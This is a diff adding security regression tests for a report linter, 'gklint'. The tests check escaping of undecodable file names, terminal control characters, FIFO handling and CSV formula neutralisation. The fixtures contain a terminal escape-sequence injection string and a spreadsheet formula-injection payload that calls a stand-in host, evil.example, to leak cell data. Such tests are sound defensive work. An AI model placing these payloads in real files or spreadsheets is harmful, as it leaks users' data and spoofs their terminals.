@@ -2,6 +2,10 @@
 flood the terminal; a config found beside the reports is trusted only
 inside its own folder."""
 
+import csv
+import io
+import json
+import os
 import subprocess
 import sys
 
@@ -129,3 +133,63 @@ def test_hostile_sarif_in_summary_is_reported_and_the_rest_summarised(tmp_path):
         assert run.returncode == 2 and "Traceback" not in err, (name, err)
         assert err.strip().startswith(f"gklint: {bad}") and len(err.strip().splitlines()) == 1, (name, err)
         assert b'"reports"' in run.stdout, name  # the good log is still summarised
+
+
+def test_undecodable_file_names_are_escaped_in_every_output(tmp_path):
+    folder = tmp_path / "reports"
+    folder.mkdir()
+    name = b"\xb1\xa8\xb8\xe6-\xff.txt"  # GBK bytes in a UTF-8 file system: not valid UTF-8
+    (folder / os.fsdecode(name)).write_bytes(SEEDS["003"].read_bytes())
+    for fmt in ("text", "json", "sarif", "github", "html"):
+        out = tmp_path / f"out.{fmt}"
+        run = gklint(folder, "--isolated", "--format", fmt, "-o", out)
+        assert run.returncode in (0, 1) and b"Traceback" not in run.stderr, (fmt, run.stderr)
+        text = out.read_text(encoding="utf-8")  # valid UTF-8, whole
+        assert "GK" in text, fmt
+    sarif = json.loads((tmp_path / "out.sarif").read_text(encoding="utf-8"))
+    uris = {a["location"]["uri"] for a in sarif["runs"][0]["artifacts"]}
+    assert any(uri.endswith("%B1%A8%B8%E6-%FF.txt") for uri in uris), uris
+    assert "\\xff.txt" in json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))["files"][0]["path"]
+    # A summary of that SARIF names the same file, and its CSV is valid UTF-8 too.
+    run = gklint("summary", tmp_path / "out.sarif", "--format", "csv")
+    assert run.returncode == 0 and "\\xff.txt" in run.stdout.decode("utf-8-sig")
+
+
+def test_terminal_control_characters_in_a_report_are_shown_escaped(tmp_path):
+    report = tmp_path / "report.txt"
+    text = SEEDS["003"].read_text(encoding="utf-8")
+    hostile = "\x1b]0;pwned\x07\x1b[2J\u202e"
+    lines = text.splitlines()
+    lines[2] += hostile  # the title line, which the address finding quotes
+    report.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    for fmt in ("text", "github"):
+        run = gklint(report, "--isolated", "--format", fmt)
+        assert run.returncode in (0, 1) and b"GK2" in run.stdout
+        assert b"\x1b" not in run.stdout and b"\x07" not in run.stdout and "\u202e".encode() not in run.stdout
+    run = gklint(report, "--isolated", "--select", "GK2")
+    assert "\\x1b]0;pwned\\x07" in run.stdout.decode()
+
+
+def test_a_fifo_in_a_walked_folder_is_skipped_with_a_note(tmp_path):
+    folder = tmp_path / "reports"
+    folder.mkdir()
+    (folder / "report.txt").write_bytes(SEEDS["003"].read_bytes())
+    os.mkfifo(folder / "pipe.txt")  # nobody writes to it: reading it would block forever
+    run = gklint(folder, "--isolated", "--format", "json", timeout=60)
+    assert run.returncode in (0, 1)
+    assert "pipe.txt: 不是普通文件" in run.stderr.decode()
+    assert [f["path"] for f in json.loads(run.stdout)["files"]] == [str(folder / "report.txt")]
+
+
+def test_a_formula_from_a_report_is_not_a_formula_in_the_summary_csv(tmp_path):
+    log = tmp_path / "x.sarif"
+    assert gklint(SEEDS["003"], "--isolated", "--format", "sarif", "-o", log).returncode in (0, 1)
+    data = json.loads(log.read_text(encoding="utf-8"))
+    for artifact in data["runs"][0]["artifacts"]:
+        artifact["properties"]["agency"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    for result in data["runs"][0]["results"]:
+        result["properties"]["agency"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    log.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(gklint("summary", log, "--format", "csv").stdout.decode("utf-8-sig"))))
+    agency = rows[1][rows[0].index("agency")]
+    assert agency.startswith("'=HYPERLINK"), agency
